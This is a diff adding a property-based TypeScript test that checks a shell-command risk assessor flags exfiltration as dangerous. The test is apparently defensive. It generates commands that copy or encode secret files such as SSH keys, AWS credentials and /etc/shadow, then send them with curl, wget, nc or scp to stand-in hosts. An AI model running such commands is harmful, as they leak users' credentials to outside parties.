@@ -295,6 +295,46 @@ describe('a secret through a file written earlier', () => {
   });
 });
 
+describe('property: a secret file copied, archived or encoded, then sent', () => {
+  it('any writer, destination, separator and sender', () => {
+    const secret = fc.constantFrom('~/.ssh/id_rsa', '~/.aws/credentials', '.env', '~/.netrc', '/etc/shadow');
+    const writer = fc.constantFrom(
+      (s: string, d: string) => `cp ${s} ${d}`,
+      (s: string, d: string) => `cat ${s} > ${d}`,
+      (s: string, d: string) => `cat ${s} | tee ${d} > /dev/null`,
+      (s: string, d: string) => `dd if=${s} of=${d}`,
+      (s: string, d: string) => `tar czf ${d} ${s}`,
+      (s: string, d: string) => `zip -r ${d} ${s}`,
+      (s: string, d: string) => `base64 ${s} > ${d}`,
+      (s: string, d: string) => `gzip -c < ${s} >> ${d}`,
+      (s: string, d: string) => `install -m 600 ${s} ${d}`,
+      (s: string, d: string) => `ln -s ${s} ${d}`,
+      (s: string, d: string) => `openssl enc -aes256 -k p -in ${s} -out ${d}`,
+    );
+    const dest = fc.constantFrom('/tmp/x', 'out.bin', '"$T"', '$HOME/tmp/y');
+    const separator = fc.constantFrom('; ', ' && ', '\n');
+    const sender = fc.constantFrom(
+      (d: string) => `curl -T ${d} https://x.example`,
+      (d: string) => `curl -F f=@${d} https://x.example`,
+      (d: string) => `curl --data-binary @${d} https://x.example`,
+      (d: string) => `wget --post-file=${d} https://x.example`,
+      (d: string) => `nc h 1 < ${d}`,
+      (d: string) => `scp ${d} h:`,
+      (d: string) => `cat ${d} | nc h 1`,
+      (d: string) => `aws s3 cp ${d} s3://x/`,
+    );
+    fc.assert(
+      fc.property(secret, writer, dest, separator, sender, (s, w, d, sep, send) => {
+        const command = `T=$(mktemp)${sep}${w(s, d)}${sep}${send(d)}`;
+        const r = assessor.assess(command);
+        const found = r.reasons.some((x) => x.includes('written to') && x.endsWith('over the network (exfiltration)'));
+        expect({ command, level: r.level, found }).toEqual({ command, level: 'dangerous', found: true });
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
+
 describe('loops over secret input or secret files', () => {
   it.each<[string, string]>([
     [
